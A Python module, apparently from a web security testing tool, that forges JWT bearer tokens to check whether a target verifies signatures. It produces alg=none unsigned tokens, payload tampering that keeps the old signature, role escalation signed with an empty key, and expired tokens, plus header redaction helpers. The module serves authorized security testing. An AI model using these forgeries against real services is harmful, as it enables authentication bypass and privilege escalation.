"""Bearer-token forgery helpers.

Tokens are handled as three base64url segments (header.payload.signature).
Nothing here verifies a signature: the point is to build variants and see
whether the target does. When no real secret is known the forged variants
are signed with an empty key on purpose.
"""

import base64
import hashlib
import hmac
import json
import time
from typing import Any, Dict, Optional

from webprobe.core.errors import TokenFormatError

MALFORMED_TOKEN = "not.a.valid.jwt-token"
NONE_HEADER = {"alg": "none", "typ": "JWT"}
REDACT_KEEP = 10


# ── encoding ────────────────────────────────────────────────────

def b64url_encode(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode("ascii").rstrip("=")


def b64url_decode(data: str) -> bytes:
    missing_padding = len(data) % 4
    if missing_padding:
        data += "=" * (4 - missing_padding)
    return base64.urlsafe_b64decode(data)


def _encode_json(value: Dict[str, Any]) -> str:
    return b64url_encode(json.dumps(value, separators=(",", ":")).encode("utf-8"))


def _decode_segment(segment: str) -> Dict[str, Any]:
    try:
        value = json.loads(b64url_decode(segment).decode("utf-8"))
    except (ValueError, UnicodeDecodeError) as e:
        raise TokenFormatError(f"Invalid JWT segment: {e}") from e
    if not isinstance(value, dict):
        raise TokenFormatError(f"JWT segment is not a JSON object: {type(value).__name__}")
    return value


def _split(token: str, minimum: int = 2):
    parts = token.split(".")
    if len(parts) < minimum or not all(parts[:minimum]):
        raise TokenFormatError("Invalid JWT format")
    return parts


# ── decoding ────────────────────────────────────────────────────

def decode_header(token: str) -> Dict[str, Any]:
    """Decode the header segment without verifying anything."""
    return _decode_segment(_split(token)[0])


def decode_payload(token: str) -> Dict[str, Any]:
    """Decode the payload segment without verifying anything."""
    return _decode_segment(_split(token)[1])


# ── signing ─────────────────────────────────────────────────────

def sign_hs256(signing_input: str, secret: str = "") -> str:
    digest = hmac.new(secret.encode("utf-8"), signing_input.encode("ascii"),
                      hashlib.sha256).digest()
    return b64url_encode(digest)


def _rebuild(token: str, payload: Dict[str, Any], secret: str) -> str:
    header = _split(token)[0]
    signing_input = f"{header}.{_encode_json(payload)}"
    return f"{signing_input}.{sign_hs256(signing_input, secret)}"


# ── variants ────────────────────────────────────────────────────

def expired_token(token: str, secret: str = "", now: Optional[float] = None) -> str:
    """Same payload with `exp` one hour in the past, re-signed."""
    issued = int(now if now is not None else time.time())
    payload = {**decode_payload(token), "exp": issued - 3600}
    return _rebuild(token, payload, secret)


def tamper_keep_signature(token: str, patch: Dict[str, Any]) -> str:
    """Merge `patch` into the payload but keep the original signature."""
    parts = _split(token, minimum=3)
    header, payload, signature = parts[0], parts[1], parts[2]
    if not signature:
        raise TokenFormatError("Invalid JWT format")
    merged = {**_decode_segment(payload), **patch}
    return f"{header}.{_encode_json(merged)}.{signature}"


def none_algorithm_token(token: str, patch: Optional[Dict[str, Any]] = None) -> str:
    """Unsigned variant: alg=none header and an empty signature segment."""
    payload = {**decode_payload(token), **(patch or {})}
    return f"{_encode_json(NONE_HEADER)}.{_encode_json(payload)}."


def role_escalated_token(token: str, role: str, secret: str = "") -> str:
    """Overwrite the payload role and re-sign."""
    payload = {**decode_payload(token), "role": role}
    return _rebuild(token, payload, secret)


# ── redaction ───────────────────────────────────────────────────

def redact(token: str) -> str:
    """Mask all but the trailing 10 characters; mask short tokens entirely."""
    if len(token) <= REDACT_KEEP:
        return "*" * len(token)
    return "*" * (len(token) - REDACT_KEEP) + token[-REDACT_KEEP:]


def redact_authorization(value: str) -> str:
    """Redact the credential part of an Authorization header value."""
    scheme, sep, credential = value.partition(" ")
    if not sep:
        return redact(value)
    return f"{scheme} {redact(credential)}"
